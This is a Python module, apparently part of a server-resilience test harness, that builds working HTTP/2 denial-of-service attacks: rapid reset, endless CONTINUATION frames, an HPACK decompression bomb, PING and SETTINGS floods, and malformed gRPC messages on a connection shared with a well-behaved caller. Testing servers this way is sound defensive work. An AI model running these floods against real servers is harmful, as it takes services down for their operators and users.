"""Attacks with frames and calls that cost their sender next to nothing."""

from __future__ import annotations

import enum
import struct
import time
from collections.abc import Callable

import hpack
import http2
from stage import DECIDE, DECIDE_STREAM, Shared, Stage, attack, report


class Reads(enum.Enum):
    """The connections on which a flood reads the server's words."""

    ALL = "all"
    HALF = "half"


# A pause between two bursts, so that the attacker does not starve those who measure.
PAUSE_SECONDS = 0.0005
# Calls in flight from which a shared connection waits for answers: well within the streams that a server allows.
SHARED_IN_FLIGHT_MAX = 80


def _flood(stage: Stage, count: int, burst: Callable[[http2.Connection], bytes], reads: Reads) -> None:
    """Sends bursts on this many connections as fast as the server takes them, and reopens closed ones."""
    connections = stage.connect(count)
    ended: dict[str, int] = {}
    bursts = 0
    stage.begun()
    while stage.goes_on():
        for index, connection in enumerate(connections):
            if connection.closed:
                opened = stage.connect(1)
                if opened:
                    ended[connection.closed] = ended.get(connection.closed, 0) + 1
                    connections[index] = opened[0]
                else:
                    time.sleep(0.05)
                continue
            if not connection.out:
                connection.write(burst(connection))
                bursts += 1
            if reads is Reads.ALL or index % 2:
                connection.pump()
            else:
                connection.push()
        time.sleep(PAUSE_SECONDS)
    stage.facts["bursts"] = bursts
    if ended:
        stage.facts["connections_ended"] = ended


def _cancelled(connection: http2.Connection, header_block: bytes, count: int) -> bytes:
    """Returns calls that are each cancelled at once."""
    out = bytearray()
    for _ in range(count):
        stream = connection.next_id
        connection.next_id += 2
        out += http2.frame(http2.HEADERS, http2.END_HEADERS, stream, header_block)
        out += http2.frame(http2.RST_STREAM, 0, stream, struct.pack(">I", 8))
    return bytes(out)


@attack("rapid-reset", "4 connections with 100 calls at a time that are cancelled in the same write, without a pause")
def rapid_reset(stage: Stage) -> None:
    """Bounds: 4 connections, reopened if the server closes them."""
    header_block = http2.head(DECIDE)
    _flood(stage, 4, lambda connection: _cancelled(connection, header_block, 100), reads=Reads.ALL)


@attack("continuation-flood", "4 connections whose headers never end: CONTINUATION frames without END_HEADERS")
def continuation_flood(stage: Stage) -> None:
    """Bounds: 4 connections, reopened if the server closes them; 16 KiB a frame."""
    more = http2.frame(http2.CONTINUATION, 0, 1, b"\0\x01x\x7f\xe1\x7e" + bytes(16_000))

    def burst(connection: http2.Connection) -> bytes:
        begin = b""
        if connection.next_id == 1:
            connection.next_id = 3
            begin = http2.frame(http2.HEADERS, 0, 1, http2.head(DECIDE))
        return begin + more

    _flood(stage, 4, burst, reads=Reads.ALL)


@attack("hpack-bomb", "4 connections whose headers repeat one of 4,000 bytes 16,000 times, at a byte each")
def hpack_bomb(stage: Stage) -> None:
    """Bounds: 4 connections, reopened if the server closes them; 20 KB a call, 64 MB when read."""
    kept = b"\x40\x01x" + hpack.integer(4_000, 7) + bytes(b"a" * 4_000)

    def burst(connection: http2.Connection) -> bytes:
        stream = connection.next_id
        connection.next_id += 2
        first, more = http2.head(DECIDE) + kept, b"\xbe" * 16_000
        return http2.frame(http2.HEADERS, http2.END_STREAM, stream, first) + http2.frame(
            http2.CONTINUATION, http2.END_HEADERS, stream, more
        )

    _flood(stage, 4, burst, reads=Reads.ALL)


@attack("ping-flood", "4 connections that send pings without a pause; half of them read no answer")
def ping_flood(stage: Stage) -> None:
    """Bounds: 4 connections; 1,000 pings a burst."""
    pings = http2.frame(http2.PING, 0, 0, b"12345678") * 1_000
    _flood(stage, 4, lambda _: pings, reads=Reads.HALF)


@attack("settings-flood", "4 connections that send SETTINGS without a pause; half of them read no answer")
def settings_flood(stage: Stage) -> None:
    """Bounds: 4 connections; 1,000 frames a burst."""
    settings = http2.frame(http2.SETTINGS, 0, 0, struct.pack(">HI", http2.INITIAL_WINDOW_SIZE, 65_535)) * 1_000
    _flood(stage, 4, lambda _: settings, reads=Reads.HALF)


def _shared(stage: Stage, step: Callable[[http2.Connection], None], pause_seconds: float, steps_max: int) -> None:
    """Repeats a step on a connection that a good caller shares; reopens it as a gateway does."""
    steps = 0
    ends: dict[str, int] = {}
    callers: list[Shared] = []
    stage.begun()
    while stage.goes_on():
        opened = stage.connect(1)
        if not opened:
            stage.problem("no connection")
            return
        connection = opened[0]
        good = Shared(stage, connection)
        callers.append(good)
        due = time.monotonic() + 0.1
        while stage.goes_on() and not connection.closed:
            may = steps < steps_max and len(connection.answers) < SHARED_IN_FLIGHT_MAX
            if may and due <= time.monotonic():
                due = max(due + pause_seconds, time.monotonic())
                step(connection)
                steps += 1
                # The good call lies between two bursts, as on a busy connection.
                good.ask()
            good.go_on()
            connection.pump(0.002)
        good.go_on()
        if connection.closed:
            ends[connection.closed] = ends.get(connection.closed, 0) + 1
    for said, count in ends.items():
        stage.problem(f"the shared connection was closed ({count} × {said}) in {steps} bursts")
    report(stage, callers)
    stage.facts["bursts"] = steps
    stage.settle(stage.connections)


@attack(
    "cancelled-bursts",
    "25 calls that are cancelled in the same write, every 20 ms, on a connection that a "
    "good caller shares: clients of a gateway that go away",
)
def cancelled_bursts(stage: Stage) -> None:
    """Bounds: 50 bursts a second, 1,250 cancelled calls."""
    header_block = http2.head(DECIDE)
    _shared(stage, lambda connection: connection.write(_cancelled(connection, header_block, 25)), 0.02, 1 << 30)


# Faults of a message: no protobuf, compressed without an encoding, an unknown flag, shorter than its length, longer
# than its length, missing.
MALFORMED = [
    http2.message(b"\x0f\xff\xff\xff"),
    b"\x01\0\0\0\x04abcd",
    b"\x07\0\0\0\x04abcd",
    b"\0\0\0\0\x20abcd",
    b"\0\0\0\0\x02abcdef",
    b"",
]


@attack(
    "malformed-messages",
    "7,200 calls whose message is malformed, on a connection that a good caller shares; "
    "1,800 of them go on after the answer",
)
def malformed_messages(stage: Stage) -> None:
    """Bounds: 7,200 calls in bursts of 72, in some second and a half; half of them end in the next burst only."""
    unended: dict[http2.Connection, list[tuple[int, http2.Answer, str]]] = {}
    heads = {path: http2.head(path) for path in (DECIDE, DECIDE_STREAM)}

    def step(connection: http2.Connection) -> None:
        # Calls of the last burst end here, so that their number stays within the server's limit. On a stream one more
        # message comes even after the answer, as it does where the answer and the message pass each other on the way.
        for stream, answer, path in unended.pop(connection, []):
            if path == DECIDE_STREAM:
                connection.data(stream, MALFORMED[0], end=True)
            elif not answer.done:
                connection.data(stream, b"", end=True)
        for path, data in [(path, data) for path in heads for data in MALFORMED] * 3:
            connection.data(connection.open(heads[path]), data, end=True)
            stream = connection.open(heads[path])
            unended.setdefault(connection, []).append((stream, connection.answers[stream], path))
            if data:
                connection.data(stream, data)

    _shared(stage, step, 0.01, 100)
